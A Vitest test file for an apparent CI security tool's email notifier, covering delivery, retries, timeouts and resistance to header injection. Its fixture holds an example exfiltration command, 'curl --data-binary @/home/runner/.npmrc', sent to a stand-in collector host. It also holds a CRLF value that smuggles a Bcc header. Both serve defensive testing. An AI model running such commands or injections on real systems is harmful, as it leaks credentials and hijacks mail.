import {
  hostileNotification,
  notifierConformance,
  sampleNotification,
  sparseNotification,
} from "@straycall/core/conformance";
import { createTransport } from "nodemailer";
import { afterEach, beforeEach, describe, expect, it, test } from "vitest";
import { emailNotifier } from "../src/index.js";
import { deliveryFailure } from "./delivery-failure.js";
import { type MailReceiver, onlyMail, startMailReceiver } from "./mail-receiver.js";

const noAbort = () => new AbortController().signal;
const from = "Straycall <straycall@example.com>";
const to = ["security@example.com", "Build Team <build@example.com>"];

const notifierTo = ({ port }: MailReceiver, options: { timeoutMs?: number } = {}) =>
  emailNotifier({ smtpUrl: `smtp://127.0.0.1:${port}`, from, to, ...options });

describe("emailNotifier is a notifier", () => {
  notifierConformance({ test, receiver: () => startMailReceiver(), create: notifierTo });
});

describe("a mail", () => {
  let server: MailReceiver;
  beforeEach(async () => {
    server = await startMailReceiver();
  });
  afterEach(() => server.close());

  it("arrives at every recipient, as text and as HTML", async () => {
    await notifierTo(server).notify(sampleNotification(), noAbort());
    const { mail, recipients } = onlyMail(server.mails);
    expect(recipients).toEqual(["security@example.com", "build@example.com"]);
    expect(mail.from?.text).toBe('"Straycall" <straycall@example.com>');
    expect(mail.to).toMatchObject({
      text: 'security@example.com, "Build Team" <build@example.com>',
    });
    expect(mail.subject).toBe(
      "[Straycall] New outbound call: collector.example:8443 (high, acme/shop build)",
    );
    expect(mail.text).toContain("Command    curl -sS --data-binary @/home/runner/.npmrc");
    expect(mail.html).toContain("curl -sS --data-binary @/home/runner/.npmrc");
    expect(mail.attachments).toEqual([]);
  });

  it("carries the same Message-ID on every attempt, and the key of its delivery", async () => {
    const notifier = notifierTo(server);
    for (const notification of [sampleNotification(), sampleNotification(), sparseNotification()]) {
      await notifier.notify(notification, noAbort());
    }
    const [first, repeat, other] = server.mails.map(({ mail }) => mail.messageId);
    expect(first).toMatch(/^<straycall\.[0-9a-f]{32}@example\.com>$/);
    expect(repeat).toBe(first);
    expect(other).not.toBe(first);
    expect(server.mails[0]?.mail.headers.get("x-straycall-delivery")).toBe(
      "01KGB7Z4M8Q6V2T9X3C5D1E0FA:sample",
    );
  });

  it("asks for no vacation replies", async () => {
    await notifierTo(server).notify(sampleNotification(), noAbort());
    const { headers } = onlyMail(server.mails).mail;
    expect(headers.get("auto-submitted")).toBe("auto-generated");
    expect(headers.get("x-auto-response-suppress")).toBe("All");
  });

  it("has the subject prefix that was asked for, or none", async () => {
    const smtpUrl = `smtp://127.0.0.1:${server.port}`;
    for (const subjectPrefix of ["[CI · Prüfung]", ""]) {
      const notifier = emailNotifier({ smtpUrl, from, to, subjectPrefix });
      await notifier.notify(sampleNotification(), noAbort());
    }
    const subjects = server.mails.map(({ mail }) => mail.subject);
    expect(subjects[0]).toMatch(/^\[CI · Prüfung\] New outbound call: /);
    expect(subjects[1]).toMatch(/^New outbound call: /);
  });

  it("gets no header and no recipient from hostile text", async () => {
    const idempotencyKey = "01KGB7Z4M8:hostile\r\nBcc: victim@example.com";
    await notifierTo(server).notify({ ...hostileNotification(), idempotencyKey }, noAbort());
    const { mail, raw, recipients } = onlyMail(server.mails);
    expect(recipients).toEqual(["security@example.com", "build@example.com"]);
    expect(mail.bcc).toBeUndefined();
    expect(mail.cc).toBeUndefined();
    expect(raw).not.toMatch(/^bcc:/im);
    expect(mail.subject).not.toMatch(/[\r\n]/);
    expect(mail.subject).toMatch(/^\[Straycall\] New outbound call: \[hostile-host /);
    expect(mail.subject?.length).toBeLessThan(300);
    expect(mail.headers.get("x-straycall-delivery")).toBe(
      "01KGB7Z4M8:hostile\\r\\nBcc: victim@example.com",
    );
    expect(mail.text).toMatch(/Commit {8}<\/td><\/table>/);
  });
});

describe("a mail server that", () => {
  let server: MailReceiver;
  beforeEach(async () => {
    server = await startMailReceiver();
  });
  afterEach(() => server.close());

  it("refuses a mail is quoted, with the cause", async () => {
    server.refuse();
    const error = await deliveryFailure(notifierTo(server).notify(sampleNotification(), noAbort()));
    expect(error.message).toBe("the mail was not sent: Message failed: 554 Message refused");
    expect(error.cause).toBeInstanceOf(Error);
  });

  it("knows none of the recipients is quoted", async () => {
    for (const address of ["security@example.com", "build@example.com"])
      server.unknown.add(address);
    const error = await deliveryFailure(notifierTo(server).notify(sampleNotification(), noAbort()));
    expect(error.message).toMatch(/^the mail was not sent: .*all recipients were rejected.*550/);
  });

  it("refuses one recipient is told of, and only that one is tried again", async () => {
    server.unknown.add("build@example.com");
    const notifier = notifierTo(server);
    const error = await deliveryFailure(notifier.notify(sampleNotification(), noAbort()));
    expect(error.message).toMatch(
      /^the mail server refused 1 of 2 recipients, build@example.com: .*550 No such user/,
    );

    await deliveryFailure(notifier.notify(sampleNotification(), noAbort()));
    server.unknown.clear();
    await notifier.notify(sampleNotification(), noAbort());
    expect(server.mails.map((mail) => mail.recipients)).toEqual([
      ["security@example.com"],
      ["build@example.com"],
    ]);
    const [first, second] = server.mails;
    expect(second?.mail.messageId).toBe(first?.mail.messageId);
    expect(second?.mail.to).toMatchObject({
      text: expect.stringContaining("security@example.com"),
    });

    await notifier.notify(sparseNotification(), noAbort());
    expect(server.mails[2]?.recipients).toHaveLength(2);
  });

  it("says nothing is given up on after a while", async () => {
    server.stall();
    const notifier = notifierTo(server, { timeoutMs: 50 });
    const error = await deliveryFailure(notifier.notify(sampleNotification(), noAbort()));
    expect(error.message).toBe("the mail was not sent within 50 ms");
  });

  it("is not there is named", async () => {
    await server.close();
    const error = await deliveryFailure(notifierTo(server).notify(sampleNotification(), noAbort()));
    expect(error.message).toMatch(/^the mail was not sent: .*ECONNREFUSED/);
  });
});

describe("a transport of one's own", () => {
  it("is used as it is: nodemailer's", async () => {
    const server = await startMailReceiver();
    const transport = createTransport({ host: "127.0.0.1", port: server.port });
    await emailNotifier({ transport, from, to }).notify(sampleNotification(), noAbort());
    expect(server.mails).toHaveLength(1);
    await server.close();
  });

  it("is not waited for when it does not hear of the abort", async () => {
    const transport = { sendMail: () => new Promise<never>(() => {}) };
    const notifier = emailNotifier({ transport, from, to, timeoutMs: 50 });
    const error = await deliveryFailure(notifier.notify(sampleNotification(), noAbort()));
    expect(error.message).toBe("the mail was not sent within 50 ms");
  });

  it("may say nothing of recipients", async () => {
    const sent: string[] = [];
    const transport = {
      sendMail: async ({ subject }: { subject: string }) => {
        sent.push(subject);
        return {};
      },
    };
    await emailNotifier({ transport, from, to }).notify(sampleNotification(), noAbort());
    expect(sent).toHaveLength(1);
  });
});
